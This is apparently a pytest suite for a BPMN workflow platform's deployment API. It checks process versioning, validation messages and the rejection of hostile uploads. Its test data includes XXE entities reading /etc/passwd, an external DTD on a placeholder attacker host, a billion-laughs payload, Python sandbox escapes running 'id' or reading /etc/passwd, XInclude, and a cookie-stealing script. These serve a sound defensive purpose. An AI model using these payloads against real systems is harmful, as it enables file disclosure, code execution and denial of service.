"""Deploying bundles: versions, identity, validation reports, hostile files, other modelers."""

from __future__ import annotations

import json

import pytest

from ..conftest import DIAGRAMS, SHIPPED, bundle, with_forms
from ..diagrams import call, chain, script, timer_catch, user


def problems_of(response) -> list[dict]:
    assert response.status_code == 422, response.get_json()
    body = response.get_json()["error"]
    assert body["code"] == "deployment_invalid"
    return body["problems"]


def keys_of(response) -> set[str]:
    return {p["key"] for p in problems_of(response)}


def test_each_deployment_gets_the_next_version_and_identical_files_do_not(api):
    v1 = chain("leave", user("ask", "申请"), name="请假")
    first = api.deploy(("leave.bpmn", v1))
    assert first.status_code == 201
    assert first.get_json()["processes"] == [{"id": "leave", "version": 1, "name": "请假"}]

    again = api.deploy(("leave.bpmn", v1))
    assert again.status_code == 200
    assert again.get_json()["created"] is False
    assert again.get_json()["processes"][0]["version"] == 1

    v2 = chain("leave", user("ask", "申请"), user("approve", "审批"), name="请假")
    second = api.deploy(("leave.bpmn", v2))
    assert second.get_json()["processes"][0]["version"] == 2
    listed = api.get("/api/v1/processes").get_json()["processes"]
    assert listed == [
        {
            "id": "leave",
            "name": "请假",
            "latest_version": 2,
            "versions": [
                {**listed[0]["versions"][0], "version": 1},
                {**listed[0]["versions"][1], "version": 2},
            ],
        }
    ]


def test_new_cases_use_the_newest_version_and_running_cases_keep_theirs(api):
    api.deploy(("leave.bpmn", chain("leave", user("ask"))))
    old = api.start("leave").get_json()
    api.deploy(("leave.bpmn", chain("leave", user("ask"), user("approve"))))
    new = api.start("leave").get_json()
    assert (old["version"], new["version"]) == (1, 2)
    pinned = api.start("leave", version=1).get_json()
    assert pinned["version"] == 1

    old_item = api.open_items(old["id"])["ask"]
    assert api.complete(old_item).get_json()["status"] == "completed"
    new_item = api.open_items(new["id"])["ask"]
    body = api.complete(new_item).get_json()
    assert body["status"] == "running"
    assert [i["bpmn_id"] for i in body["work_items"]] == ["approve"]

    missing = api.start("leave", version=9)
    assert missing.status_code == 404
    assert "第 9 版" in missing.get_json()["error"]["message"]


def test_problems_name_file_line_and_element(api):
    broken = chain("p", script("calc", "x = (1 +"), user("t", form="missing.json"))
    response = api.deploy(("p.bpmn", broken))
    problems = problems_of(response)
    by_key = {p["key"]: p for p in problems}
    assert by_key["script.syntax"]["element_id"] == "calc"
    assert by_key["script.syntax"]["file"] == "p.bpmn"
    assert (
        by_key["script.syntax"]["line"]
        == broken.decode()
        .split("\n")
        .index(next(line for line in broken.decode().split("\n") if 'id="calc"' in line))
        + 1
    )
    assert by_key["form.missing"]["element_id"] == "t"
    assert "missing.json" in by_key["form.missing"]["message"]
    assert api.get("/api/v1/processes").get_json() == {"processes": []}


def test_a_bundle_with_any_error_is_rejected_whole(api):
    good = chain("good", user("a"))
    bad = b"<not-closed>"
    keys = keys_of(api.deploy(("good.bpmn", good), ("bad.bpmn", bad)))
    assert keys == {"xml.syntax"}
    assert api.get("/api/v1/processes").get_json() == {"processes": []}


@pytest.mark.parametrize(
    ("name", "content", "key"),
    [
        (
            "xxe.bpmn",
            b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&x;</bpmn:definitions>',
            "xml.doctype_forbidden",
        ),
        (
            "net.bpmn",
            b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.invalid/x.dtd">'
            b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>',
            "xml.doctype_forbidden",
        ),
        (
            "laughs.bpmn",
            b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&b;</bpmn:definitions>',
            "xml.doctype_forbidden",
        ),
        ("huge.bpmn", b"<a>" + b" " * (6 * 1024 * 1024) + b"</a>", "file.too_large"),
        ("notxml.bpmn", b"PK\x03\x04 this is a zip file", "xml.syntax"),
        ("other.bpmn", b"<html><body>hello</body></html>", "xml.not_bpmn"),
        ("readme.txt", b"hello", "file.unknown_type"),
        ("form.json", b"{not json", "json.syntax"),
        (
            "nostart.bpmn",
            b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d">'
            b'<bpmn:process id="p" isExecutable="true"><bpmn:userTask id="t"/></bpmn:process></bpmn:definitions>',
            "process.no_start_event",
        ),
        (
            "import.bpmn",
            chain("imp", script("s", "__import__('os').system('id')")),
            "script.forbidden",
        ),
        (
            "open.bpmn",
            chain("opn", script("s", "data = open('/etc/passwd').read()")),
            "script.forbidden",
        ),
        (
            "dunder.bpmn",
            chain("dun", script("s", "x = ().__class__.__bases__")),
            "script.forbidden",
        ),
        ("service.bpmn", chain("svc", '<bpmn:serviceTask id="svc_t"/>'), "task.unsupported"),
        ("call.bpmn", chain("caller", call("c", "nowhere")), "call.unresolved"),
        ("timer.bpmn", chain("tmr", timer_catch("wait", "P1X")), "timer.invalid"),
    ],
)
def test_hostile_and_broken_files_get_a_clear_error(api, name, content, key):
    response = api.deploy((name, content))
    problems = problems_of(response)
    assert key in {p["key"] for p in problems}
    assert all(p["message"] for p in problems)
    assert all(p["file"] == name for p in problems if p["key"] == key)
    # the platform keeps serving
    assert api.get("/api/v1/processes").status_code == 200


def test_a_duration_without_its_t_is_told_where_the_t_goes(api):
    problems = problems_of(api.deploy(("t.bpmn", chain("tmr2", timer_catch("wait", "P1H")))))
    [timer] = [p for p in problems if p["key"] == "timer.invalid"]
    assert "要加 T" in timer["message"] and "PT1H" in timer["message"]
    assert timer["element_id"] and timer["line"]


def test_spiffarena_dynamic_options_are_named_not_reported_as_a_bad_schema(api):
    """SpiffArena fills a choice from process data ("options_from_task_data_var:x")."""
    form = {
        "type": "object",
        "properties": {"fruit": {"type": "string", "anyOf": ["options_from_task_data_var:fruits"]}},
    }
    response = api.deploy(
        ("p.bpmn", chain("dyn", user("t", form="f.json"))), ("f.json", json.dumps(form).encode())
    )
    [problem] = problems_of(response)
    assert problem["key"] == "form.dynamic_options"
    assert "options_from_task_data_var:fruits" in problem["message"]
    assert problem["file"] == "f.json"


def test_a_50_megabyte_upload_is_refused_and_nothing_breaks(api):
    response = api.deploy(("big.bpmn", b"<a>" + b"x" * (50 * 1024 * 1024) + b"</a>"))
    assert response.status_code == 413
    assert response.get_json()["error"]["message"] == "上传的内容太大。"
    assert api.deploy(("ok.bpmn", chain("ok", user("a")))).status_code == 201


def test_invalid_form_schema_is_reported(api):
    bad_schema = json.dumps({"type": "object", "properties": {"a": {"type": "nonsense"}}}).encode()
    keys = keys_of(
        api.deploy(("p.bpmn", chain("p", user("t", form="f.json"))), ("f.json", bad_schema))
    )
    assert keys == {"form.invalid_schema"}


def test_call_activities_resolve_in_the_bundle_and_to_deployed_processes(api, session):
    from workflows import models as m

    child, parent = (
        with_forms(DIAGRAMS / "call_child.bpmn"),
        with_forms(DIAGRAMS / "call_parent.bpmn"),
    )
    assert api.deploy(*child).status_code == 201
    response = api.deploy(*parent)
    assert response.status_code == 201, response.get_json()
    definition = session.query(m.ProcessDefinition).filter_by(process_id="call_parent").one()
    child_v1 = session.query(m.ProcessDefinition).filter_by(process_id="call_child").one()
    assert definition.called_definitions == {"call_child": child_v1.id}

    instance_id = api.start("call_parent").get_json()["id"]
    api.complete(
        api.open_items(instance_id)["Task_Register"],
        {"applicant_name": "李四", "accept_date": "2026-11-20"},
    )
    review = api.open_items(instance_id)["Task_ChildReview"]
    reviewed = api.complete(review, {"decision": "approve", "opinion": "子流程同意"})
    assert reviewed.status_code == 200, reviewed.get_json()
    assert reviewed.get_json()["status"] == "running", reviewed.get_json()
    confirm = api.open_items(instance_id)["Task_Confirm"]
    body = api.complete(confirm, {"confirmed": True, "opinion": "确认"}).get_json()
    assert body["status"] == "completed"
    assert body["data"]["child_result"]

    both = api.deploy(
        *(("x_" + p.name, p.read_bytes()) if p.suffix == ".bpmn" else p for p in child + parent)
    )
    assert both.status_code == 201, both.get_json()
    assert {p["id"] for p in both.get_json()["processes"]} == {"call_child", "call_parent"}


def test_mixed_dialects_in_one_bundle_are_refused(api):
    camunda = (DIAGRAMS / "camunda_modeler.bpmn").read_bytes()
    spiff = chain("sp", user("t", lane_props={"level": "county"}))
    assert "bundle.mixed_dialects" in keys_of(api.deploy(("c.bpmn", camunda), ("s.bpmn", spiff)))


def test_the_shipped_bundle_deploys_with_its_forms(api):
    response = api.deploy(*bundle(SHIPPED / "joint_review"))
    assert response.status_code == 201
    assert response.get_json()["processes"] == [
        {"id": "joint_review", "version": 1, "name": "联合审查示例（抄告相关）"}
    ]


@pytest.mark.parametrize(
    "insert, key",
    [
        (
            '<bpmn:documentation><h:script xmlns:h="http://www.w3.org/1999/xhtml">'
            "alert(document.cookie)</h:script></bpmn:documentation>",
            "xml.active_content",
        ),
        (
            '<bpmn:extensionElements><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
            ' href="/etc/passwd" parse="text"/></bpmn:extensionElements>',
            "xml.active_content",
        ),
        ('<?xml-stylesheet type="text/xsl" href="data:,x"?>', "xml.processing_instruction"),
    ],
)
def test_markup_a_browser_runs_is_refused_at_deployment_with_file_and_line(api, insert, key):
    plain = (DIAGRAMS / "bpmnio_plain.bpmn").read_text(encoding="utf-8")
    hostile = plain.replace(
        '<bpmn:startEvent id="StartEvent_1" name="提交申请">',
        '<bpmn:startEvent id="StartEvent_1" name="提交申请">' + insert,
        1,
    )
    problems = problems_of(api.deploy(("hostile.bpmn", hostile.encode())))
    found = [p for p in problems if p["key"] == key]
    assert found and found[0]["file"] == "hostile.bpmn" and found[0]["line"] == 4
    assert "不予接受" in found[0]["message"]
    assert api.deploy(DIAGRAMS / "bpmnio_plain.bpmn").status_code == 201


def test_forms_keep_the_order_of_their_files_on_every_database(api, rt):
    """PostgreSQL's JSONB sorts keys by length: fields must still come in the designer's order."""
    from sqlalchemy import select

    from workflows.models import ProcessDefinition

    assert api.deploy(*bundle(SHIPPED / "food_workshop")).status_code == 201
    definition = rt.session.scalars(
        select(ProcessDefinition).where(ProcessDefinition.process_id == "food_workshop")
    ).one()
    forms = rt.process_specs(definition.id).forms
    for bpmn_id, form in forms.items():
        source = json.loads((SHIPPED / "food_workshop" / form["ref"]).read_text("utf-8"))
        assert list(form["schema"]) == list(source), bpmn_id
        assert list(form["schema"]["properties"]) == list(source["properties"]), bpmn_id
